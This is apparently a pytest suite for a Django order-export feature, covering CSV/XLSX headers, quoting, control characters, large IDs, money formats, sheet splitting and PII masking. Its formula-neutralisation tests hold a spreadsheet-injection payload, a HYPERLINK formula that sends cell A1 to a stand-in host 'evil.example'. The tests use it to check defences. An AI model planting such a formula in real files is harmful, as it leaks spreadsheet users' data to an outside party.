"""The files as a spreadsheet reads them: exports of factory orders (downloaded at once, or written to a
file as a background job does) opened with the csv module and openpyxl, and write_xlsx fed synthetic rows
for what needs a million of them."""

import re
from decimal import Decimal

import pytest
from openpyxl.utils import get_column_letter

from accounts.roles import Role
from exports import writers
from exports.columns import LINE_COLUMNS, Column, Format, Kind, Layout
from exports.services import reading
from exports.services.files import write_export
from exports.writers import csv_chunks, headers, write_csv, write_xlsx
from tests.factories import LineItemFactory, MembershipFactory, OrderFactory, PackageFactory, ShopFactory

from .conftest import (
    as_dicts,
    csv_rows,
    export_file,
    export_to_file,
    ooxml_text,
    writer_query,
    xlsx_book,
    xlsx_rows,
)

pytestmark = pytest.mark.django_db

ALL_FORMATS = [pytest.param(f, id=f.value) for f in Format]
CSV_FORMATS = [pytest.param(Format.CSV, id="csv"), pytest.param(Format.CSV_EXCEL, id="csv_excel")]
LAYOUTS = [pytest.param(Layout.LINES, id="lines"), pytest.param(Layout.ORDERS, id="orders")]
BIG_ID = 576460752303423489  # 2**59 + 1: 18 digits that a float (Excel's number) cannot hold exactly


@pytest.fixture(params=["download", "file"])
def produce(request, tmp_path):
    """produce(user, fmt, layout, params) -> bytes, by the immediate download or by the background job's writer."""

    def make(user, fmt=Format.CSV, layout=Layout.LINES, params=None):
        if request.param == "download":
            return export_file(user, params, fmt, layout)
        return export_to_file(tmp_path / f"export.{Format(fmt).extension}", user, params, fmt, layout)

    return make


def read(data, fmt):
    return xlsx_rows(data) if fmt is Format.XLSX else csv_rows(data)


def sheet_of(data):
    return xlsx_book(data).worksheets[0]


def cells_by_header(sheet):
    """[{header: cell}] for the data rows of a worksheet."""
    rows = list(sheet.iter_rows())
    names = [c.value for c in rows[0]]
    return [dict(zip(names, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def admin(shop, member_of):
    return member_of(shop, Role.ADMINISTRATOR)


# Headers, values, BOM, line ends and quoting -----------------------------------------------------------


@pytest.mark.parametrize("fmt", ALL_FORMATS)
@pytest.mark.parametrize("layout", LAYOUTS)
def test_headers_and_values(produce, shop, admin, fmt, layout):
    order = OrderFactory(
        shop=shop,
        id=BIG_ID,
        line=None,
        shipping_fee=Decimal("12.5"),
        original_shipping_fee=Decimal("12.5"),
        original_product_total=Decimal("75.00"),
    )
    LineItemFactory(
        order=order,
        product_name="Linen Shirt",
        sku_name="Blue, L",
        seller_sku="LS-BL-L",
        quantity=3,
        original_price=Decimal("25.00"),
    )
    rows = read(produce(admin, fmt, layout), fmt)
    assert rows[0] == headers(layout.columns)
    assert len(rows) == 2
    [row] = as_dicts(rows)
    assert row["Order Status"] == "Awaiting shipment"
    assert row["Shop"] == shop.name and row["Currency"] == "USD" and row["Time Zone"] == "America/Los_Angeles"
    if layout is Layout.LINES:
        assert (row["Product Name"], row["Variation"], row["Seller SKU"]) == ("Linen Shirt", "Blue, L", "LS-BL-L")
        quantity, subtotal = row["Quantity"], row["SKU Subtotal Before Discount"]
    else:
        assert row["Items"] == "Linen Shirt (Blue, L) x3" and row["Seller SKUs"] == "LS-BL-L"
        quantity, subtotal = row["Units"], row["Original Product Total"]
    if fmt is Format.XLSX:
        assert (quantity, subtotal, row["Shipping Fee After Discount"], row["Order Amount"]) == (3, 75.0, 12.5, 87.5)
    else:
        assert (quantity, subtotal, row["Shipping Fee After Discount"], row["Order Amount"]) == (
            "3",
            "75.00",
            "12.50",
            "87.50",
        )


@pytest.mark.parametrize(
    ("fmt", "start"),
    [(Format.CSV_EXCEL, b"\xef\xbb\xbfOrder ID,"), (Format.CSV, b"Order ID,"), (Format.XLSX, b"PK\x03\x04")],
    ids=["csv_excel", "csv", "xlsx"],
)
def test_byte_order_mark_only_for_csv_for_excel(produce, shop, admin, fmt, start):
    OrderFactory(shop=shop)
    data = produce(admin, fmt)
    assert data.startswith(start)
    if fmt is not Format.XLSX:
        assert data.count(b"\xef\xbb\xbf") == (1 if fmt is Format.CSV_EXCEL else 0)
        assert csv_rows(data, bom=fmt is Format.CSV_EXCEL)[0][0] == "Order ID"


MESSAGE = 'Hello, "friend"\nsecond line, with a comma'


@pytest.mark.parametrize("fmt", CSV_FORMATS)
def test_csv_has_crlf_line_ends_and_rfc_4180_quoting(produce, shop, admin, fmt):
    OrderFactory(shop=shop, buyer_message=MESSAGE)
    OrderFactory(shop=shop, buyer_message="")
    data = produce(admin, fmt)
    quoted = b'"Hello, ""friend""\nsecond line, with a comma"'
    assert quoted in data  # quotes doubled, the field quoted, its own line break kept as it was
    outside = data.replace(quoted, b"")
    assert re.search(rb"(?<!\r)\n", outside) is None, "every record ends with CRLF"
    assert outside.endswith(b"\r\n") and outside.count(b"\r\n") == 3  # header and two rows
    messages = [row["Buyer Message"] for row in as_dicts(csv_rows(data))]
    assert sorted(messages) == ["", MESSAGE]


def test_xlsx_keeps_the_message_as_it_was(produce, shop, admin):
    OrderFactory(shop=shop, buyer_message=MESSAGE)
    [row] = cells_by_header(sheet_of(produce(admin, Format.XLSX)))
    assert row["Buyer Message"].value == MESSAGE and row["Buyer Message"].data_type == "s"


# Formula neutralisation --------------------------------------------------------------------------------

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n"]
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def hostile_order(shop, start):
    """An order whose seller- and buyer-written text all starts with `start`."""
    text = start + PAYLOAD
    order = OrderFactory(
        shop=shop,
        line=None,
        buyer_message=text,
        seller_note=text,
        cancel_reason=text,
        buyer_nickname=(start + "nick")[:64],
    )
    LineItemFactory(order=order, product_name=text, sku_name="", seller_sku=start + "SKU-1")
    return order


TEXT_FIELDS = {  # header -> what the order holds there
    Layout.LINES: {
        "Buyer Message": PAYLOAD,
        "Seller Note": PAYLOAD,
        "Cancel Reason": PAYLOAD,
        "Buyer Username": "nick",
        "Product Name": PAYLOAD,
        "Seller SKU": "SKU-1",
    },
    Layout.ORDERS: {"Buyer Message": PAYLOAD, "Items": PAYLOAD + " x1", "Seller SKUs": "SKU-1"},
}


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
@pytest.mark.parametrize("fmt", CSV_FORMATS)
@pytest.mark.parametrize("layout", LAYOUTS)
def test_csv_neutralises_text_that_a_spreadsheet_would_read_as_a_formula(produce, shop, admin, start, fmt, layout):
    hostile_order(shop, start)
    [row] = as_dicts(csv_rows(produce(admin, fmt, layout)))
    for header, rest in TEXT_FIELDS[layout].items():
        assert row[header] == "'" + start + rest, header


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
@pytest.mark.parametrize("layout", LAYOUTS)
def test_xlsx_writes_such_text_as_a_string_cell_unchanged(produce, shop, admin, start, layout):
    hostile_order(shop, start)
    sheet = sheet_of(produce(admin, Format.XLSX, layout))
    [row] = cells_by_header(sheet)
    for header, rest in TEXT_FIELDS[layout].items():
        cell = row[header]
        assert cell.data_type == "s", header
        assert ooxml_text(cell.value) == start + rest, header
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)


@pytest.mark.parametrize("fmt", CSV_FORMATS)
def test_text_that_merely_contains_those_characters_is_left_alone(produce, shop, admin, fmt):
    OrderFactory(shop=shop, buyer_message="Total = 3 + 4 - 1 @ noon", seller_note="'quoted already")
    [row] = as_dicts(csv_rows(produce(admin, fmt)))
    assert (row["Buyer Message"], row["Seller Note"]) == ("Total = 3 + 4 - 1 @ noon", "'quoted already")


# Control characters (XML 1.0 cannot hold them) -----------------------------------------------------------

CONTROL = [chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20))]


def one_text_column_book(tmp_path, values):
    path = tmp_path / "control.xlsx"
    write_xlsx(
        str(path), [[(value, 1) for value in values]], writer_query([Column("Text", "x", Kind.TEXT)], Format.XLSX)
    )
    return xlsx_book(str(path)).worksheets[0]


@pytest.mark.parametrize("char", CONTROL, ids=lambda c: f"0x{ord(c):02x}")
def test_write_xlsx_removes_control_characters(tmp_path, char):
    sheet = one_text_column_book(tmp_path, [f"a{char}b{char}", f"{char}=1+2"])
    assert [c.value for c in sheet["A"]][1:] == ["ab", "=1+2"]
    assert all(c.data_type == "s" for c in sheet["A"])


def test_write_xlsx_keeps_tabs_and_line_breaks(tmp_path):
    sheet = one_text_column_book(tmp_path, ["a\tb", "a\nb", "a\r\nb", "Łódź — ünïcödé ✓"])
    assert [ooxml_text(c.value) for c in sheet["A"]][1:] == ["a\tb", "a\nb", "a\r\nb", "Łódź — ünïcödé ✓"]


@pytest.mark.parametrize("char", ["\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x1f"], ids=lambda c: f"0x{ord(c):02x}")
def test_control_characters_from_the_database_are_removed_in_xlsx(produce, shop, admin, char):
    OrderFactory(shop=shop, buyer_message=f"Ring{char} the bell{char}", seller_note=f"{char}note")
    [row] = cells_by_header(sheet_of(produce(admin, Format.XLSX)))
    assert (row["Buyer Message"].value, row["Seller Note"].value) == ("Ring the bell", "note")


# Identifiers, money, quantities -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "written"),
    [(Format.CSV, "{}"), (Format.CSV_EXCEL, '="{}"'), (Format.XLSX, "{}")],
    ids=["csv", "csv_excel", "xlsx"],
)
@pytest.mark.parametrize("layout", LAYOUTS)
def test_order_package_and_sku_ids_are_exact(produce, shop, admin, fmt, written, layout):
    order = OrderFactory(shop=shop, id=BIG_ID, line=None, status="IN_TRANSIT")
    package = PackageFactory(order=order, tracking_number="9400111899223344556677")
    LineItemFactory(order=order, sku_id="1731234567890123456", package=package)
    data = produce(admin, fmt, layout)
    if fmt is Format.XLSX:
        [row] = cells_by_header(sheet_of(data))
        values = {name: (row[name].value, row[name].data_type) for name in ("Order ID", "Package ID", "Tracking ID")}
        assert values == {
            "Order ID": (str(BIG_ID), "s"),
            "Package ID": (str(package.pk), "s"),
            "Tracking ID": ("9400111899223344556677", "s"),
        }
        if layout is Layout.LINES:
            assert (row["SKU ID"].value, row["SKU ID"].data_type) == ("1731234567890123456", "s")
        return
    [row] = as_dicts(csv_rows(data))
    assert row["Order ID"] == written.format(BIG_ID)
    assert re.fullmatch(r"\d{18}", str(BIG_ID))
    assert row["Package ID"] == written.format(package.pk)
    assert row["Tracking ID"] == written.format("9400111899223344556677")
    if layout is Layout.LINES:
        assert row["SKU ID"] == written.format("1731234567890123456")


def test_an_order_with_several_packages_lists_them_in_one_row(produce, shop, admin):
    order = OrderFactory(shop=shop, status="IN_TRANSIT")
    first, second = PackageFactory(order=order), PackageFactory(order=order)
    [row] = as_dicts(csv_rows(produce(admin, Format.CSV, Layout.ORDERS)))
    assert sorted(row["Tracking ID"].split("; ")) == sorted([first.tracking_number, second.tracking_number])
    assert sorted(row["Package ID"].split("; ")) == sorted([str(first.pk), str(second.pk)])


@pytest.mark.parametrize("fmt", CSV_FORMATS)
def test_csv_money_is_text_with_two_decimals(produce, shop, admin, fmt):
    OrderFactory(shop=shop, shipping_fee=Decimal("12.5"), tax=Decimal("0"), refunded_amount=Decimal("3.10"))
    [row] = as_dicts(csv_rows(produce(admin, fmt)))
    assert (row["Shipping Fee After Discount"], row["Taxes"], row["Order Refund Amount"], row["Order Amount"]) == (
        "12.50",
        "0.00",
        "3.10",
        "62.50",
    )


def test_xlsx_money_is_numeric_in_the_row_currency_and_quantities_are_integers(produce, db, member_of):
    dollars, euros = ShopFactory(currency="USD"), ShopFactory(currency="EUR", country="DE", time_zone="Europe/Berlin")
    user = member_of(dollars, Role.ADMINISTRATOR)
    MembershipFactory(user=user, shop=euros, role=Role.ADMINISTRATOR)
    for shop in (dollars, euros):
        order = OrderFactory(shop=shop, line=None, shipping_fee=Decimal("12.5"))
        LineItemFactory(order=order, quantity=3, original_price=Decimal("10.00"))
    rows = cells_by_header(sheet_of(produce(user, Format.XLSX)))
    assert sorted(row["Currency"].value for row in rows) == ["EUR", "USD"]
    money = [c.header for c in LINE_COLUMNS if c.kind is Kind.MONEY]
    for row in rows:
        currency = row["Currency"].value
        for header in money:
            cell = row[header]
            assert cell.data_type == "n" and isinstance(cell.value, (int, float)), header
            assert currency in cell.number_format and "0.00" in cell.number_format, header
        assert row["Shipping Fee After Discount"].value == 12.5
        assert row["SKU Subtotal Before Discount"].value == 30
        quantity = row["Quantity"]
        assert (quantity.value, quantity.data_type, type(quantity.value)) == (3, "n", int)


@pytest.mark.parametrize("rows", [0, 3])
def test_xlsx_header_is_frozen_and_filterable(produce, shop, admin, rows):
    for _ in range(rows):
        OrderFactory(shop=shop)
    sheet = sheet_of(produce(admin, Format.XLSX))
    assert sheet.title == "Orders"
    assert sheet.freeze_panes == "A2"
    last = get_column_letter(len(LINE_COLUMNS))
    assert sheet.auto_filter.ref == f"A1:{last}{max(rows, 1) + 1}"
    assert [c.value for c in sheet[1]] == headers(LINE_COLUMNS)
    assert all(c.font.b for c in sheet[1])


# Past Excel's rows per sheet (write_xlsx directly, with a small limit) -----------------------------------

SMALL = [
    Column("Order ID", "o.id", Kind.ID),
    Column("Order Amount", "o.total", Kind.MONEY),
    Column("Quantity", "l.quantity", Kind.INT),
    Column("Currency", "o.currency", Kind.LABEL),
]


def numbered(count, fmt=Format.XLSX):
    """Batches of CHUNK rows as the SELECT returns them for SMALL: for XLSX one value per column, for
    CSV the id as its finished field, the money, then quantity and currency as one finished string."""
    rows = [
        (str(BIG_ID + n), n + 0.5, n, "USD", 1) if fmt is Format.XLSX else (f'"{BIG_ID + n}"', n + 0.5, f'{n},"USD"', 1)
        for n in range(count)
    ]
    return [rows[start : start + reading.CHUNK] for start in range(0, count, reading.CHUNK)]


@pytest.mark.parametrize(
    ("count", "per_sheet"),
    [
        (4, [4]),  # header + 4 rows = 5: one full sheet
        (5, [4, 1]),
        (6, [4, 2]),
        (9, [4, 4, 1]),
    ],
)
def test_rows_past_the_sheet_limit_continue_on_a_further_sheet(tmp_path, monkeypatch, count, per_sheet):
    monkeypatch.setattr(writers, "EXCEL_MAX_ROWS", 5)  # rows per sheet, header included
    path = tmp_path / "many.xlsx"
    write_xlsx(str(path), numbered(count), writer_query(SMALL, Format.XLSX))
    book = xlsx_book(str(path))
    assert book.sheetnames == ["Orders", *[f"Orders ({n})" for n in range(2, len(per_sheet) + 1)]]
    written = []
    for sheet, expected in zip(book.worksheets, per_sheet, strict=True):
        rows = [[c.value for c in row] for row in sheet.iter_rows()]
        assert rows[0] == ["Order ID", "Order Amount", "Quantity", "Currency"]
        assert len(rows) == expected + 1 <= 5
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:D{expected + 1}"
        written += rows[1:]
    assert written == [[str(BIG_ID + n), n + 0.5, n, "USD"] for n in range(count)]  # every row once, in order


def test_the_real_limit_is_excels():
    assert writers.EXCEL_MAX_ROWS == 1_048_576


# Progress and masking in the writers ---------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_progress_is_reported_per_chunk_with_the_rows_done(tmp_path, monkeypatch, fmt):
    monkeypatch.setattr(reading, "CHUNK", 2)
    seen = []
    path = tmp_path / f"progress.{fmt}"
    if fmt == "csv":
        write_csv(str(path), numbered(5, Format.CSV), writer_query(SMALL, Format.CSV), bom=False, progress=seen.append)
        assert len(csv_rows(path.read_bytes())) == 6
    else:
        write_xlsx(str(path), numbered(5), writer_query(SMALL, Format.XLSX), progress=seen.append)
        assert len(xlsx_rows(str(path))) == 6
    assert seen == [2, 4, 5]


def test_csv_chunks_stream_the_header_first_then_batches(monkeypatch):
    monkeypatch.setattr(reading, "CHUNK", 2)
    chunks = list(csv_chunks(numbered(3, Format.CSV), writer_query(SMALL, Format.CSV), bom=True))
    assert chunks[0] == "\ufeffOrder ID,Order Amount,Quantity,Currency\r\n"
    assert len(chunks) == 3 and chunks[2] == f'"{BIG_ID + 2}",2.50,2,"USD"\r\n'


@pytest.mark.parametrize("fmt", [Format.CSV, Format.XLSX], ids=["csv", "xlsx"])
def test_names_emails_and_phones_are_masked_in_python_but_hidden_values_stay(tmp_path, fmt):
    from exports.columns import Pii

    columns = [
        Column("Name", "a", Kind.TEXT, pii=Pii.NAME),
        Column("Email", "b", Kind.TEXT, pii=Pii.EMAIL),
        Column("Phone", "c", Kind.TEXT, pii=Pii.PHONE),
        Column("Note", "d", Kind.TEXT),
    ]
    query = writer_query(columns, fmt, masked=True)
    note = '"Jane Doe"' if fmt is Format.CSV else "Jane Doe"  # finished by the database
    rows = [
        ("Jane Doe", "jane.doe@example.com", "+1 213 555 0188", note, 1),
        ("***", "", "***", '"x"' if fmt is Format.CSV else "x", 1),
    ]
    path = tmp_path / f"masked.{fmt.extension}"
    write_export(str(path), [rows], query, fmt)
    read = xlsx_rows(str(path)) if fmt is Format.XLSX else csv_rows(path.read_bytes())
    assert [[value or "" for value in row] for row in read[1:]] == [
        ["J*** D***", "j***e@e***.com", "(+1)213*****88", "Jane Doe"],
        ["***", "", "***", "x"],
    ]
